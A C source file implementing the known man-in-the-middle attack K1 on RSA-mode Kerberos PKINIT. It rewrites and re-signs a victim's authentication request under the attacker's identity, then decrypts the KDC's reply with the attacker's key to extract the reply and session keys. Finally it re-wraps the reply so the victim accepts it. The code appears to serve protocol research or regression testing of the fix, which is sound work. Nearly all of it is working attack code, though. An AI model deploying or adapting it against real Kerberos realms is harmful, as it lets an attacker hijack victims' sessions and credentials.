/*
 * The man in the middle of Cervesato, Jaggard, Scedrov, Tsay and Walstad ("Breaking and fixing public-key Kerberos",
 * 2006) against RSA-mode PKINIT, attack K1.
 *
 * It has its own identity and the wire. The victim's AuthPack, signed anew, makes a request of its own; the KDC's
 * answer is opened with its own private key, so that it holds the reply key; the KDC's signed reply, unchanged, goes on
 * to the victim in another envelope. With a nonce in the signed reply the victim cannot tell; with a checksum over the
 * request that the KDC saw, it can.
 */
#include <assert.h>
#include <stdlib.h>
#include <string.h>
#include <openssl/err.h>
#include "crypto/pkinit_cms.h"

struct pkinit_mitm {
	struct krb_name attacker, victim;
	key_handle rsa_key;
	struct der victim_cert;
};

/* The victim's AuthPack, byte for byte in the draft's form; RFC 4556's has the checksum of the new body. */
static bool adapt_auth_pack(struct crypto *crypto, struct krb_as_inside *inside, struct der *pack)
{
	struct der body = { 0 };
	uint8_t sum[20];
	if (!inside->auth_pack)
		return krb_der_copy(pack, inside->content.bytes, inside->content.len);
	if (!KRB_ENCODE(KRB_KDC_REQ_BODY, inside->request->body, &body))
		return false;
	crypto_sha1(crypto, body.bytes, body.len, sum);
	krb_put_octets(&inside->auth_pack->authenticator->pa_checksum, sum, sizeof(sum));
	der_free(&body);
	return KRB_ENCODE(PKINIT_AUTH_PACK, inside->auth_pack, pack);
}

static bool resign(struct secure_module *sm, const struct pkinit_identity *attacker, struct krb_as_inside *inside,
                   struct krb_time now, struct der *out)
{
	KRB_TYPED *padata = (KRB_TYPED *)krb_find_typed(inside->request->padata, KRB_PA_PK_AS_REQ);
	PKINIT_AS_REQ *request = KRB_DECODE(PKINIT_AS_REQ, ASN1_STRING_get0_data(padata->value),
	                                    (size_t)ASN1_STRING_length(padata->value));
	struct der pack = { 0 }, signed_pack = { 0 }, padata_der = { 0 };
	bool ok = request && adapt_auth_pack(sm_crypto(sm), inside, &pack) &&
	          pkinit_sign(sm, attacker->rsa_key, &attacker->cert, &attacker->issuer_cert,
	                      inside->auth_pack ? PKINIT_AUTH_DATA : PKINIT_ID_DATA, &pack, now.s, &signed_pack);
	if (ok) {
		krb_put_octets(&request->signed_auth_pack, signed_pack.bytes, signed_pack.len);
		ok = KRB_ENCODE(PKINIT_AS_REQ, request, &padata_der);
	}
	if (ok) {
		krb_put_octets(&padata->value, padata_der.bytes, padata_der.len);
		ok = KRB_ENCODE(KRB_AS_REQUEST, inside->request, out);
	}
	der_free(&pack);
	der_free(&signed_pack);
	der_free(&padata_der);
	KRB_FREE(PKINIT_AS_REQ, request);
	return ok;
}

struct pkinit_mitm *pkinit_mitm_request(struct secure_module *sm, const struct pkinit_identity *attacker,
                                        const uint8_t *victim_request, size_t len, struct krb_time now, struct der *out)
{
	struct krb_as_facts facts;
	if (!krb_as_parse(sm_crypto(sm), victim_request, len, &facts))
		return NULL;
	struct krb_as_inside *inside = facts.inside;
	struct pkinit_mitm *mitm = calloc(1, sizeof(*mitm));
	if (!mitm)
		abort();
	mitm->attacker = attacker->name;
	mitm->victim = facts.client;
	mitm->rsa_key = attacker->rsa_key;
	bool ok = inside->cms && krb_der_copy(&mitm->victim_cert, facts.client_cert.bytes, facts.client_cert.len);
	if (ok) {
		KRB_KDC_REQ_BODY *body = inside->request->body;
		krb_put_name(&body->cname, &body->realm, &attacker->name);
		body->enc.modified = 1;
		ok = resign(sm, attacker, inside, now, out);
	}
	krb_as_facts_free(&facts);
	if (!ok) {
		pkinit_mitm_free(mitm);
		mitm = NULL;
	}
	return mitm;
}

void pkinit_mitm_free(struct pkinit_mitm *mitm)
{
	if (!mitm)
		return;
	der_free(&mitm->victim_cert);
	free(mitm);
}

/* The reply key out of the KDC's signed reply. */
static bool learn_key(struct crypto *crypto, const struct der *bare, uint8_t key[KRB_KEY_LEN])
{
	struct pkinit_signed read = { .cms = NULL };
	struct der whole = { 0 };
	bool has_checksum;
	uint8_t checksum[20];
	uint32_t nonce;
	bool ok = pkinit_wrap(bare, &whole) && pkinit_signed_read(crypto, whole.bytes, whole.len, &read) &&
	          pkinit_read_key_pack(&read.content, key, &has_checksum, checksum, &nonce);
	pkinit_signed_free(&read);
	krb_der_wipe(&whole);
	return ok;
}

/* The session key into the attacker's module, under the reply key, which leaves it again. */
static bool learn_session(struct secure_module *sm, const struct pkinit_mitm *mitm, const KRB_KDC_REP *rep,
                          const uint8_t key[KRB_KEY_LEN], key_handle *session_key)
{
	struct krb_reply_part part = { .nonce = 0 };
	char context[KRB_PRINCIPAL_MAX];
	bool ok = krb_reply_open(sm_crypto(sm), key, rep, &part) == KRB_REPLY_OK;
	if (ok) {
		krb_principal_text(&mitm->attacker, context);
		key_handle reply = sm_add(sm, SM_DES3, "krb.reply", key, KRB_KEY_LEN, "unwrapped", context, NULL);
		krb_principal_text(&part.server, context);
		*session_key = sm_add(sm, SM_DES3, "krb.session", part.session, KRB_KEY_LEN, "unwrapped", context,
		                      sm_lookup(sm, reply, SM_DES3));
		sm_destroy_key(sm, reply);
	}
	crypto_wipe(&part, sizeof(part));
	return ok;
}

/* The reply as the victim expects it: its name, an envelope to its certificate. */
static bool readdress(struct secure_module *sm, const struct pkinit_mitm *mitm, const struct der *bare,
                      KRB_KDC_REP *rep, PKINIT_AS_REP *pk, struct der *out)
{
	KRB_TYPED *padata = (KRB_TYPED *)krb_find_typed(rep->padata, KRB_PA_PK_AS_REP);
	struct der sealed = { 0 }, padata_der = { 0 };
	bool ok = pkinit_envelope(sm, &mitm->victim_cert, bare, &sealed);
	if (ok) {
		krb_put_octets(&pk->d.enc_key_pack, sealed.bytes, sealed.len);
		ok = KRB_ENCODE(PKINIT_AS_REP, pk, &padata_der);
	}
	if (ok) {
		krb_put_octets(&padata->value, padata_der.bytes, padata_der.len);
		krb_put_name(&rep->cname, &rep->crealm, &mitm->victim);
		ok = KRB_ENCODE(KRB_AS_REPLY, rep, out);
	}
	der_free(&sealed);
	der_free(&padata_der);
	return ok;
}

bool pkinit_mitm_reply(struct secure_module *sm, struct pkinit_mitm *mitm, const uint8_t *bytes, size_t len,
                       key_handle *session_key, struct der *to_victim)
{
	KRB_KDC_REP *rep = krb_reply_decode(bytes, len, &mitm->attacker);
	const KRB_TYPED *padata = rep ? krb_find_typed(rep->padata, KRB_PA_PK_AS_REP) : NULL;
	PKINIT_AS_REP *pk = NULL;
	struct der bare = { 0 };
	uint8_t key[KRB_KEY_LEN] = { 0 };
	key_handle session = 0;
	if (padata)
		pk = KRB_DECODE(PKINIT_AS_REP, ASN1_STRING_get0_data(padata->value),
		                (size_t)ASN1_STRING_length(padata->value));
	bool ok = pk && pk->which == 1 && /* a Diffie-Hellman secret is the victim's and the KDC's */
	          pkinit_open_envelope(sm, mitm->rsa_key, ASN1_STRING_get0_data(pk->d.enc_key_pack),
	                               (size_t)ASN1_STRING_length(pk->d.enc_key_pack), false, &bare) == PKINIT_OPENED &&
	          learn_key(sm_crypto(sm), &bare, key) && learn_session(sm, mitm, rep, key, &session) &&
	          readdress(sm, mitm, &bare, rep, pk, to_victim);
	if (ok)
		*session_key = session;
	else
		sm_destroy_key(sm, session);
	crypto_wipe(key, sizeof(key));
	krb_der_wipe(&bare);
	KRB_FREE(PKINIT_AS_REP, pk);
	KRB_FREE(KRB_AS_REPLY, rep);
	return ok;
}
